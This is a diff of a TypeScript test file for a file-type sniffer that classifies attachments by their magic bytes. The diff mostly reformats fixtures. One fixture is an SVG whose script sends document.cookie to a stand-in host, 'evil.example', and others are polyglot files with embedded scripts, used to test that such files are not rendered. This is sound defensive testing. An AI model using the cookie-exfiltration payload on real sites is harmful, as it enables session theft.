@@ -13,7 +13,9 @@ const ftyp = (major: string, ...compatible: string[]) => bytes(u32be(16 + 4 * co
 const PNG = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0, 0, 0, 13], 'IHDR', [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
 const JPEG = bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], 'JFIF', [0]);
 const BMP = bytes('BM', u32le(70), [0, 0, 0, 0], u32le(54), u32le(40), u32le(1), u32le(1), [1, 0, 24, 0]);
-const SCRIPT_SVG = utf8('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>');
+const SCRIPT_SVG = utf8(
+	'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>'
+);
 const SCRIPT_HTML = utf8('<!doctype html><html><body><script>navigator.storage.getDirectory()</script></body></html>');
 
 interface Case {
@@ -40,8 +42,20 @@ const CASES: Case[] = [
 	{ name: 'QuickTime', claimed: 'IMG_2.MOV', head: ftyp('qt  ', 'qt  '), kind: 'video', type: 'video/quicktime' },
 	{ name: '3GP', claimed: 'v.3gp', head: ftyp('3gp4', 'isom', '3gp4'), kind: 'video', type: 'video/3gpp' },
 	{ name: 'M4A', claimed: 'AUD-1.m4a', head: ftyp('M4A ', 'M4A ', 'mp42', 'isom'), kind: 'audio', type: 'audio/mp4' },
-	{ name: 'WebM', claimed: 'v.webm', head: bytes([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84], 'webm'), kind: 'video', type: 'video/webm' },
-	{ name: 'Matroska (not WebM)', claimed: 'v.mkv', head: bytes([0x1a, 0x45, 0xdf, 0xa3, 0xa3, 0x42, 0x82, 0x88], 'matroska'), kind: 'file', type: DOWNLOAD_TYPE },
+	{
+		name: 'WebM',
+		claimed: 'v.webm',
+		head: bytes([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84], 'webm'),
+		kind: 'video',
+		type: 'video/webm'
+	},
+	{
+		name: 'Matroska (not WebM)',
+		claimed: 'v.mkv',
+		head: bytes([0x1a, 0x45, 0xdf, 0xa3, 0xa3, 0x42, 0x82, 0x88], 'matroska'),
+		kind: 'file',
+		type: DOWNLOAD_TYPE
+	},
 	{ name: 'Ogg Opus voice note', claimed: 'PTT-1.opus', head: bytes('OggS', [0, 2], [0, 0, 0, 0, 0, 0, 0, 0]), kind: 'audio', type: 'audio/ogg' },
 	{ name: 'MP3 with ID3', claimed: 'a.mp3', head: bytes('ID3', [4, 0, 0, 0, 0, 0, 0]), kind: 'audio', type: 'audio/mpeg' },
 	{ name: 'MP3 frame without ID3', claimed: 'a.mp3', head: bytes([0xff, 0xfb, 0x90, 0x64]), kind: 'audio', type: 'audio/mpeg' },
@@ -51,17 +65,43 @@ const CASES: Case[] = [
 	{ name: 'PDF', claimed: 'invoice.pdf', head: utf8('%PDF-1.7\n%\u00e2\u00e3'), kind: 'file', type: DOWNLOAD_TYPE, label: /PDF/ },
 	{ name: 'DOCX (a zip)', claimed: 'terms.docx', head: bytes('PK', [3, 4, 20, 0]), kind: 'file', type: DOWNLOAD_TYPE },
 	{ name: 'TIFF (browsers do not show it)', claimed: 'scan.tif', head: bytes('II*', [0, 8, 0, 0, 0]), kind: 'file', type: DOWNLOAD_TYPE },
-	{ name: 'vCard', claimed: 'Dana.vcf', head: utf8('BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dana\r\nEND:VCARD\r\n'), kind: 'text', type: DOWNLOAD_TYPE, label: /^text$/ },
+	{
+		name: 'vCard',
+		claimed: 'Dana.vcf',
+		head: utf8('BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dana\r\nEND:VCARD\r\n'),
+		kind: 'text',
+		type: DOWNLOAD_TYPE,
+		label: /^text$/
+	},
 	// Polyglots and lies: the name never decides.
 	{ name: 'SVG with a script, named .jpg', claimed: 'IMG-4.jpg', head: SCRIPT_SVG, kind: 'text', type: DOWNLOAD_TYPE, label: /markup/ },
 	{ name: 'SVG with a script, named .svg', claimed: 'x.svg', head: SCRIPT_SVG, kind: 'text', type: DOWNLOAD_TYPE, label: /markup/ },
 	{ name: 'HTML with a script, named .png', claimed: 'IMG-5.png', head: SCRIPT_HTML, kind: 'text', type: DOWNLOAD_TYPE, label: /markup/ },
-	{ name: 'HTML behind a UTF-8 BOM and blank lines', claimed: 'x.gif', head: utf8('\uFEFF\n\n  <html><script>1</script>'), kind: 'text', type: DOWNLOAD_TYPE, label: /markup/ },
+	{
+		name: 'HTML behind a UTF-8 BOM and blank lines',
+		claimed: 'x.gif',
+		head: utf8('\uFEFF\n\n  <html><script>1</script>'),
+		kind: 'text',
+		type: DOWNLOAD_TYPE,
+		label: /markup/
+	},
 	{ name: 'a PNG named .svg', claimed: 'x.svg', head: PNG, kind: 'image', type: 'image/png' },
-	{ name: 'a GIF header with HTML after it (GIFAR-style)', claimed: 'x.html', head: bytes('GIF89a', '<script>alert(1)</script>'), kind: 'image', type: 'image/gif' },
+	{
+		name: 'a GIF header with HTML after it (GIFAR-style)',
+		claimed: 'x.html',
+		head: bytes('GIF89a', '<script>alert(1)</script>'),
+		kind: 'image',
+		type: 'image/gif'
+	},
 	{ name: 'RIFF that is neither WebP nor WAV', claimed: 'x.webp', head: bytes('RIFF', u32le(100), 'WEBPXXXX'), kind: 'file', type: DOWNLOAD_TYPE },
 	{ name: '"BM" text is not a bitmap', claimed: 'x.bmp', head: utf8('BM is short for bowel movement, says the text file'), kind: 'text', type: DOWNLOAD_TYPE },
-	{ name: 'ftyp with a box size that is no box size', claimed: 'v.mp4', head: bytes([0, 0, 0, 3], 'ftypisom', [0, 0, 0, 0]), kind: 'file', type: DOWNLOAD_TYPE },
+	{
+		name: 'ftyp with a box size that is no box size',
+		claimed: 'v.mp4',
+		head: bytes([0, 0, 0, 3], 'ftypisom', [0, 0, 0, 0]),
+		kind: 'file',
+		type: DOWNLOAD_TYPE
+	},
 	// Empty and truncated.
 	{ name: 'empty', claimed: 'IMG-6.jpg', head: new Uint8Array(0), kind: 'file', type: DOWNLOAD_TYPE, label: /empty/ },
 	{ name: 'PNG signature cut after 4 bytes', claimed: 'IMG-7.png', head: PNG.subarray(0, 4), kind: 'file', type: DOWNLOAD_TYPE },
